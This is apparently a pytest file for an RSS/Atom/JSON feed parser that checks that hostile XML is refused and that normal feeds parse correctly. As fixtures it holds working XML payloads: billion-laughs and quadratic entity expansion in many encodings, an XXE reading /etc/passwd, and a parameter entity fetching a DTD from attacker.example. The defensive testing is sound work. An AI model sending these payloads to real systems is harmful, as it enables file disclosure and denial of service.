import json

import pytest

from pipeline.poll.parse import MAX_ENTRIES, HostileFeed, guard_xml, parse_feed, prepare_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<rss version="2.0"><channel><title>&lol2;</title></channel></rss>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"""
PARAM_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<rss version="2.0"/>"""
RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [
  <!ENTITY copy "&#169;">
]>
<rss version="2.0"><channel><title>Wire &copy;</title><language>en</language>
<item><title>One &amp; two</title><link>/a/1?utm_source=x</link><guid>g1</guid>
<description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description>
<pubDate>Thu, 13 Mar 2025 08:10:00 GMT</pubDate><author>ann@example.com (Ann)</author></item>
</channel></rss>"""


@pytest.mark.parametrize(
    ("doc", "match"),
    [
        (BILLION_LAUGHS, "entity 'lol' stands for 3 characters"),
        (XXE, "external entity 'xxe'"),
        (PARAM_XXE, "external parameter entity"),
        (XXE.replace(b'encoding="utf-8"', b"").decode().encode("utf-16"), "external entity"),
        (XXE.decode().encode("utf-16-le"), "external entity"),
    ],
)
def test_hostile_documents_are_refused(doc: bytes, match: str) -> None:
    with pytest.raises(HostileFeed, match=match):
        parse_feed(doc, "http://feeds.example/rss")


def test_too_many_declarations_are_refused() -> None:
    decls = "".join(f'<!ENTITY e{i} "x">' for i in range(100))
    with pytest.raises(HostileFeed, match="more than 64 entity declarations"):
        guard_xml(f"<!DOCTYPE rss [{decls}]><rss/>".encode())


# The reproducer (one 100 KB entity referenced 10,000 times parsed to a
# 1-billion-character title, 23 s and ~3 GB) and variants the old regex scan missed.
_BIG = "A" * 100_000
_QUADRATIC = (
    '<?xml version="1.0" encoding="ENC"?>\n<!DOCTYPE rss [<!ENTITY a "' + _BIG + '">]>\n'
    '<rss version="2.0"><channel><title>' + "&a;" * 10_000 + "</title></channel></rss>"
)
_TAIL = "<rss version='2.0'><channel><title>&a;&a;&a;</title></channel></rss>"
QUADRATIC_VARIANTS = {
    "utf-8": _QUADRATIC.replace("ENC", "utf-8").encode(),
    "utf-16 BOM": _QUADRATIC.replace("ENC", "utf-16").encode("utf-16"),
    "utf-16-be no BOM": _QUADRATIC.replace("ENC", "utf-16").encode("utf-16-be"),
    "utf-32": _QUADRATIC.replace("ENC", "utf-32").encode("utf-32"),
    "EBCDIC cp037": _QUADRATIC.replace("ENC", "cp037").encode("cp037"),
    "UTF-7": _QUADRATIC.replace("ENC", "utf-7").encode("utf-7"),
    "value holding >": (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "x>' + _BIG + '">]>' + _TAIL
    ).encode(),
    "single quotes": ("<!DOCTYPE rss [<!ENTITY a '" + _BIG + "'>]>" + _TAIL).encode(),
    "parameter entity": (
        "<!DOCTYPE rss [<!ENTITY % p \"<!ENTITY a '" + _BIG[:50] + "'>\"> %p;]>" + _TAIL
    ).encode(),
    "hidden in a comment feedparser revives": (
        '<?xml version="1.0"?>\n<!--\n<!ENTITY a "' + _BIG + '">\n-->\n' + _TAIL
    ).encode(),
    "malformed subset": (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY a "' + _BIG + '">\n<!BOGUS>]>\n' + _TAIL
    ).encode(),
    "unparsed entity": (
        '<!DOCTYPE rss [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "http://a.example/" NDATA n>]>'
        + _TAIL
    ).encode(),
    "char refs building a long value": (
        '<!DOCTYPE rss [<!ENTITY a "' + "&#65;" * 1000 + '">]>' + _TAIL
    ).encode(),
}


@pytest.mark.parametrize("content_type", ["application/rss+xml", "text/xml", None])
@pytest.mark.parametrize("variant", sorted(QUADRATIC_VARIANTS))
def test_entity_expansion_is_refused_in_every_encoding(
    variant: str, content_type: str | None
) -> None:
    doc = QUADRATIC_VARIANTS[variant]
    headers = {"Content-Type": content_type} if content_type else {}
    with pytest.raises(HostileFeed, match=r"refused: .*(entity|XXE)"):
        parse_feed(doc, "http://feeds.example/rss", headers)


_RSS_TITLE = "<rss version='2.0'><channel><title>{}</title></channel></rss>"


def test_one_character_entities_cannot_amplify_and_pass() -> None:
    decls = "".join(f'\n<!ENTITY e{i} "&#{256 + i};">' for i in range(20))
    refs = "".join(f"&e{i};" for i in range(20)) * 50
    doc = f"<!DOCTYPE rss [{decls}\n]>\n" + _RSS_TITLE.format(refs)
    feed = parse_feed(doc.encode(), "http://feeds.example/rss", {"Content-Type": "application/xml"})
    assert feed.title is not None and len(feed.title) == 1000


def test_declared_charsets_are_decoded_once() -> None:
    doc = "<?xml version='1.0' encoding='iso-8859-1'?>" + _RSS_TITLE.format("Café")
    for headers in (
        {"Content-Type": "application/rss+xml; charset=iso-8859-1"},
        {"Content-Type": "application/rss+xml"},
        {},
    ):
        feed = parse_feed(doc.encode("latin-1"), "http://feeds.example/rss", headers)
        assert feed.title == "Café"
    ebcdic = "<?xml version='1.0' encoding='cp037'?>" + _RSS_TITLE.format("Ébène")
    assert parse_feed(ebcdic.encode("cp037"), "http://f.example/", {}).title == "Ébène"


def test_entries_past_the_limit_are_cut_before_feedparser() -> None:
    items = "".join(
        f"<item><title>T{i}</title><link>http://e.example/{i}</link></item>" for i in range(3000)
    )
    doc = f"<rss version='2.0'><channel><title>x</title>{items}</channel></rss>".encode()
    prepared = prepare_xml(doc, {"Content-Type": "application/rss+xml"})
    assert prepared.truncated == 3000 - MAX_ENTRIES
    assert len(prepared.data) < len(doc) / 5
    feed = parse_feed(doc, "http://e.example/", {"Content-Type": "application/rss+xml"})
    assert len(feed.entries) == MAX_ENTRIES and feed.truncated == 3000 - MAX_ENTRIES
    assert not feed.malformed  # the cut closes every open element
    assert feed.entries[-1].link == f"http://e.example/{MAX_ENTRIES - 1}"
    atom = (
        "<feed xmlns='http://www.w3.org/2005/Atom'><title>a</title>"
        + "<entry><title>t</title></entry>" * (MAX_ENTRIES + 7)
        + "</feed>"
    )
    feed = parse_feed(atom.encode(), "http://e.example/", {"Content-Type": "application/atom+xml"})
    assert len(feed.entries) == MAX_ENTRIES and feed.truncated == 7 and not feed.malformed


def test_safe_internal_entity_and_relative_links() -> None:
    feed = parse_feed(
        RSS, "http://feeds.example/world/rss", {"Content-Type": "application/rss+xml"}
    )
    assert feed.title == "Wire ©" and feed.language == "en" and not feed.malformed
    (entry,) = feed.entries
    assert entry.link == "http://feeds.example/a/1?utm_source=x"
    assert entry.title == "One & two" and entry.summary == "Hello world"
    assert entry.published_at is not None and entry.published_at.year == 2025


def test_ill_formed_feed_keeps_feedparsers_reason() -> None:
    broken = b"<rss version='2.0'><channel><item><title>A & B</title><link>http://e.example/x</link></item>"
    feed = parse_feed(broken, "http://e.example/rss", {"Content-Type": "text/xml"})
    assert feed.malformed and feed.bozo_reason
    assert feed.entries[0].link == "http://e.example/x"


def test_json_feed() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JF",
        "items": [
            {
                "id": "1",
                "url": "https://e.example/1",
                "title": "T",
                "content_text": "body",
                "date_published": "2025-03-13T08:00:00Z",
                "authors": [{"name": "Ann"}],
            }
        ],
    }
    feed = parse_feed(json.dumps(doc).encode(), "https://e.example/feed.json")
    assert feed.version == "json1"
    assert feed.entries[0].link == "https://e.example/1" and feed.entries[0].authors == ["Ann"]


def test_not_a_feed() -> None:
    with pytest.raises(ValueError):
        parse_feed(b'{"hello": 1}', "https://e.example/x", {"Content-Type": "application/json"})
